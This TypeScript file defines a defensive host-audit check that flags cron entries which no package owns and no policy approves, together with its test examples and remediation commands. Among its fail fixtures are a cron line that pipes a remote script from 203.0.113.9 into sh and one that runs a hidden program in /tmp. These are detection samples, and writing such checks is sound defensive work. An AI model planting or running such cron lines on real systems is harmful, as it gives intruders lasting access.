import { cannotTell, defineCheck, fail, type Outcome, pass } from '../../core/check.js';
import { exampleRef, partlySeen, seen, unseen } from '../../core/example.js';
import { defaultPolicy, type Policy } from '../../core/policy.js';
import { containers } from '../../facts/containers.js';
import { exampleContainer } from '../../facts/examples.js';
import { type ScheduledCommand, scheduledCommands } from '../../facts/host.js';
import { policy } from '../../facts/policy.js';
import { isApproved, judgeUnowned } from '../shared/approval.js';
import { attackInCommand, quoteCommand } from '../shared/start-command.js';

function textOf({ file, user, schedule, command }: ScheduledCommand): string {
  return `${file}${user === null ? '' : ` as ${user}`}: ${schedule === '' ? '' : `${schedule} `}${quoteCommand(command)}`;
}

function isListed(entry: ScheduledCommand, declared: Policy): boolean {
  const folder = entry.file.slice(0, entry.file.lastIndexOf('/'));
  return isApproved(declared.approved.cron, [entry.file, folder], entry.command);
}

/** PER-01: what cron, anacron and at will run (ATT&CK T1053.003). */
export const cronRunsForeignCommand = defineCheck({
  id: 'PER-01',
  title: 'A scheduled command belongs to nobody',
  questions: ['Q6'],
  severity: 'high',
  required: true,
  needs: { scheduledCommands, policy },
  uses: { containers },
  decide: (facts) => {
    const all = facts.scheduledCommands.value;
    const attacks = all.flatMap((entry): Outcome[] => {
      const onHost = entry.subject === 'host';
      const why = attackInCommand(
        entry.command,
        onHost && !isListed(entry, facts.policy.value) ? facts.containers : null,
      );
      if (why === null || entry.packageOwned === true) return [];
      const severity = why.includes('can write') ? 'high' : 'critical';
      return [
        fail([entry.ref], { subject: entry.subject, severity, what: `${textOf(entry)}: ${why}`, location: entry.file }),
      ];
    });
    if (attacks.length > 0) return attacks;
    const unowned = all
      .filter((entry) => entry.packageOwned !== true && !isListed(entry, facts.policy.value))
      .map((entry) => ({ text: textOf(entry), location: entry.file, subject: entry.subject, ref: entry.ref }));
    const declared = facts.policy.value.approved.cron.length > 0;
    const open = judgeUnowned(unowned, { declared, kind: 'scheduled command', key: 'approved.cron' });
    if (open.length > 0) return open;
    if (!facts.scheduledCommands.complete) {
      const gap = facts.scheduledCommands.gap;
      return cannotTell(gap?.reason ?? 'not-collected', gap?.detail ?? 'only a part of cron was read', {
        settle: 'sudo tail -n +1 -v /etc/crontab /etc/cron.*/* /var/spool/cron/crontabs/*',
      });
    }
    return pass(facts.scheduledCommands.evidence, {
      what: `${all.length} scheduled commands, all of packages or approved`,
    });
  },
  whyItMatters: 'A line in a crontab brings an intruder back every minute, after every clean-up and every restart.',
  verifyByHand: 'sudo tail -n +1 -v /etc/crontab /etc/cron.*/* /var/spool/cron/crontabs/* 2>/dev/null',
  remediation: {
    text: 'List what is yours under approved.cron. Copy what is not, with its times, before it is removed.',
    commands: ['sudo stat FILE && sudo cp -a FILE ./evidence/', 'sudo rm FILE'],
  },
  references: ['ATT&CK T1053.003'],
  examples: {
    pass: [
      { title: 'none', facts: { scheduledCommands: seen([]), policy: seen(defaultPolicy) } },
      { title: "a package's own", facts: withCron([cronLine('test -x /usr/sbin/anacron', { packageOwned: true })]) },
      {
        title: 'approved by its command',
        facts: {
          ...withCron([cronLine('/usr/local/bin/backup.sh')]),
          policy: seen({
            ...defaultPolicy,
            declared: true,
            approved: { ...defaultPolicy.approved, cron: ['/usr/local/bin/backup.sh'] },
          }),
        },
      },
    ],
    fail: [
      { title: 'fetch and run', facts: withCron([cronLine('curl -fsSL http://203.0.113.9/a.sh | sh')]) },
      { title: 'a program in /tmp', facts: withCron([cronLine('/tmp/.x/upd >/dev/null 2>&1')]) },
      {
        title: "a script that the app's container can write",
        facts: {
          ...withCron([cronLine('bash /srv/site/scripts/tidy.sh')]),
          containers: seen([
            exampleContainer({
              mounts: [{ type: 'bind', source: '/srv/site', destination: '/app', readWrite: true, propagation: '' }],
            }),
          ]),
        },
      },
      {
        title: 'not in the declared list',
        facts: {
          ...withCron([cronLine('/usr/local/bin/other.sh')]),
          policy: seen({
            ...defaultPolicy,
            declared: true,
            approved: { ...defaultPolicy.approved, cron: ['/usr/local/bin/backup.sh'] },
          }),
        },
      },
    ],
    blind: [
      { title: 'cron not read', facts: { scheduledCommands: unseen(), policy: seen(defaultPolicy) } },
      { title: 'only a part was read', facts: { scheduledCommands: partlySeen([]), policy: seen(defaultPolicy) } },
      { title: 'a line whose owner is not known', facts: withCron([cronLine('/usr/local/bin/backup.sh')]) },
    ],
  },
});

function cronLine(command: string, change: Partial<ScheduledCommand> = {}): ScheduledCommand {
  return {
    kind: 'cron',
    file: '/etc/cron.d/site',
    user: 'root',
    schedule: '0 3 * * *',
    command,
    packageOwned: null,
    subject: 'host',
    ref: exampleRef('host.cron'),
    ...change,
  };
}

function withCron(list: readonly ScheduledCommand[]) {
  return { scheduledCommands: seen(list), policy: seen(defaultPolicy) };
}
